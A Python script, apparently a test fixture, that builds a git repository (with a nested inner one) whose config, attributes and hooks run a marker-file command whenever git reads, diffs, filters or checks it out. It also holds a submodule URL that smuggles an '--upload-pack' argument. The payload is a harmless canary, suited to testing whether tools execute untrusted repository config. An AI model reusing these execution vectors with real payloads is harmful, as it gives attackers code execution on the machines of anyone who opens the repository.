"""Makes its folder a git repository whose configuration runs programs on whoever asks git about it."""

from __future__ import annotations

import os

from attempt import ARGUMENTS, MARKER, tell  # type: ignore[import-not-found]

PAY = f"touch {ARGUMENTS[0]}/{MARKER}-git"
CONFIG = f"""[core]
\trepositoryformatversion = 0
\tfsmonitor = "{PAY}; false"
\tpager = "{PAY}"
\teditor = "{PAY}"
\tsshCommand = "{PAY}"
\thooksPath = hooks
[diff]
\texternal = "{PAY}"
[diff "x"]
\ttextconv = "{PAY}; cat"
[filter "x"]
\tclean = "{PAY}; cat"
\tsmudge = "{PAY}; cat"
"""
for folder in (".git/objects", ".git/refs/heads", ".git/hooks", "hooks", "inner/.git"):
    os.makedirs(folder)
texts = {
    ".git/config": CONFIG,
    ".git/HEAD": "ref: refs/heads/main\n",
    ".gitattributes": "* filter=x diff=x\n",
    ".gitmodules": '[submodule "m"]\n\tpath = m\n\turl = --upload-pack=touch\n',
    "inner/.git/config": CONFIG,
    "inner/.git/HEAD": "ref: refs/heads/main\n",
}
for hook in (
    "pre-commit",
    "post-checkout",
    "post-index-change",
    "reference-transaction",
    "fsmonitor-watchman",
):
    texts[f".git/hooks/{hook}"] = texts[f"hooks/{hook}"] = f"#!/bin/sh\n{PAY}\n"
for path, text in texts.items():
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)
    os.chmod(path, 0o755)
tell("files", len(texts))
